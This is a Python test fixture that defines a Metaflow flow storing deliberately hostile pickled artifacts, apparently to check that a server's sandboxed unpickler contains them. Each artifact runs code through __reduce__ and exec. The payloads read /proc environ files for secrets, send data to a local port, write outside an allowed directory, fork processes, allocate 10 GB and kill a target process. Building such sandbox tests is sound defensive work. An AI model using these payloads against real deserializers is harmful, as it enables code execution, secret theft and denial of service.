"""A real Metaflow run whose ``end`` step stores hostile artifacts: unpickling any of them runs code.

Each ``Payload`` pickles as ``exec(code)`` (what any class's ``__reduce__`` can ask for), one
attack per artifact; the code leaves evidence where the test can see it if the attack works.
The targets (the server's pid, a listening port, a world-writable directory) come in as
parameters because the server is started before the run. ``fine`` (a numpy array) needs the
sandbox too; ``plain`` is read by the safe decoder.
"""

import numpy
from metaflow import FlowSpec, Parameter, step


class Payload:
    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


READ_ENV = """
import glob, os
seen = [f"{k}={v}" for k, v in os.environ.items()]
for path in ["/proc/%(pid)d/environ", "/proc/1/environ", "/proc/self/environ"] + glob.glob("/proc/*/environ"):
    try:
        with open(path, "rb") as f:
            seen.append(f.read().decode(errors="replace"))
    except OSError:
        pass
leak = [s for s in seen if "FLOWSCOPE_" in s]
if not leak:
    raise PermissionError("no server environment readable")
raise RuntimeError("LEAKED " + " ".join(leak))
"""

SOCKET = """
import socket
with socket.create_connection(("127.0.0.1", %(port)d), timeout=3) as s:
    s.sendall(b"exfiltrated")
"""

WRITE = """
with open("%(outside)s/escaped.txt", "w") as f:
    f.write("written by an artifact")
"""

# Bounded so that a broken sandbox cannot take the machine down with it: 64 children that
# sleep and exit, never more.
FORK_BOMB = """
import os, time
for _ in range(64):
    if os.fork() == 0:
        time.sleep(20)
        os._exit(0)
"""

ALLOCATE = """
block = bytearray(10 * 1024 ** 3)
block[-1] = 1
"""

KILL = """
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
attached = libc.ptrace(16, %(pid)d, None, None)   # PTRACE_ATTACH
os.kill(%(pid)d, signal.SIGKILL)
"""


class HostileFlow(FlowSpec):
    target_pid = Parameter("target_pid", type=int, required=True)
    listen_port = Parameter("listen_port", type=int, required=True)
    outside = Parameter("outside", type=str, required=True)

    @step
    def start(self):
        self.next(self.end)

    @step
    def end(self):
        # In the last step: Metaflow itself never loads these again.
        values = {"pid": self.target_pid, "port": self.listen_port, "outside": self.outside}
        self.read_env = Payload(READ_ENV % values)
        self.open_socket = Payload(SOCKET % values)
        self.write_outside = Payload(WRITE % values)
        self.fork_bomb = Payload(FORK_BOMB)
        self.allocate_10gb = Payload(ALLOCATE)
        self.kill_server = Payload(KILL % values)
        self.fine = numpy.arange(5)
        self.plain = {"answer": 42, "items": ["a", "b"]}


if __name__ == "__main__":
    HostileFlow()
